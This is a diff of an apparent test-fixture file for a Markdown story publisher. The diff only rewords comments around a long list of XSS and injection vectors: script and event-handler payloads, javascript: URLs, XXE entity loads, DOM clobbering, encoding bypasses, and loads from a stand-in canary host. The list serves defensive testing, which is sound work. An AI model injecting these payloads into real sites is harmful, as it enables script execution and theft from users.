@@ -1,13 +1,13 @@
-/** Where what an attack loads would be asked for. Nothing that is published may ask for it. */
+/** The host that attacks try to load from. No published file may fetch anything from it. */
 export const CANARY = "https://canary.example";
 
-/** What every attack tries to do: call a function of the tests, show a dialog, change the window, and ask for an address. */
+/** The code of every attack: call a function of the tests, show a dialog, change the window, and fetch a URL. */
 const RUN = "canary();alert(1);window.changed=1";
 const LOAD = `${CANARY}/x`;
 
-/** Texts that some program once took for more than text. Each stands in every field of a story, and in its body. */
+/** Texts that programs have mistaken for code or markup. Each is used in every field of a story, and in its body. */
 export const VECTORS: readonly string[] = [
-  // Elements that run or load.
+  // Elements that run code or load files.
   `<script>${RUN}</script>`,
   `<script src="${LOAD}.js"></script>`,
   `"><script>${RUN}</script>`,
@@ -58,7 +58,7 @@ export const VECTORS: readonly string[] = [
   `<xss onanimationstart=${RUN} style="animation:x"></xss><style>@keyframes x{}</style>`,
   `<dialog open onclose=${RUN}><form method=dialog>`,
   `<a popovertarget=x onbeforetoggle=${RUN}>`,
-  // What changes the page around it.
+  // Markup that changes the page around it.
   `<base href="${CANARY}/">`,
   `<meta http-equiv=refresh content="0;url=${LOAD}">`,
   `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
@@ -71,12 +71,12 @@ export const VECTORS: readonly string[] = [
   `<![CDATA[<img src=x onerror=${RUN}>]]>`,
   `<?xml-stylesheet href="javascript:${RUN}"?>`,
   `<!DOCTYPE x [<!ENTITY y SYSTEM "${LOAD}">]>&y;`,
-  // Names that shadow what scripts of others look for.
+  // Names that override variables of other scripts.
   `<a id=location name=document><form id=document name=cookie><input name=attributes>`,
   `<img name=currentScript src="${LOAD}"><iframe name=self>`,
   `__proto__`,
   `constructor`,
-  // References, which are read once and must not be read twice.
+  // Character references, which must be decoded only once.
   `&lt;img src=x onerror=${RUN}&gt;`,
   `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
   `&#60;img src=x onerror=${RUN}&#62;`,
@@ -85,14 +85,14 @@ export const VECTORS: readonly string[] = [
   `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
   `\\x3cimg src=x onerror=${RUN}\\x3e`,
   `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
-  // Characters that look like, or become, others.
+  // Characters that look like others, or are converted to them.
   `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
   `\u2039img src=x onerror=${RUN}\u203a \u{e003c}img src=x onerror=${RUN}\u{e003e}`,
   `\u226e\u0338<\u0338img src=x onerror=${RUN}>\u0338`,
   `\u202e>x\u202c<img src=x onerror=${RUN}\u2066>`,
   `\u3008\u{1f600}\u200d<img\u2028src=x\u2029onerror=${RUN}>`,
   `"\u0345 onload="${RUN}`,
-  // Data of machines.
+  // Payloads for JSON, templates and other formats.
   `"}</script><script>${RUN}</script><script>{"`,
   `\\"};${RUN};//`,
   `*/${RUN}/*`,
@@ -105,7 +105,7 @@ export const VECTORS: readonly string[] = [
   `${CANARY}/in-the-open`,
 ];
 
-/** Addresses that run something, or lead where none may. `{}` stands for what is to be run. */
+/** URLs that run code, or lead to forbidden places. `{}` is replaced by the code. */
 const SCHEMES: readonly string[] = [
   "javascript:{}",
   "JaVaScRiPt:{}",
@@ -145,7 +145,7 @@ const SCHEMES: readonly string[] = [
   '#"><img src=x onerror={}>',
 ];
 
-/** Bodies of Markdown: each way in which text becomes an address, an attribute or an element. */
+/** Markdown bodies: every way for text to become a URL, an attribute or an element. */
 export const BODIES: readonly string[] = [
   ...SCHEMES.map((scheme) => scheme.replace("{}", "canary()")).flatMap((url) => [
     `[a](<${url}>)`,
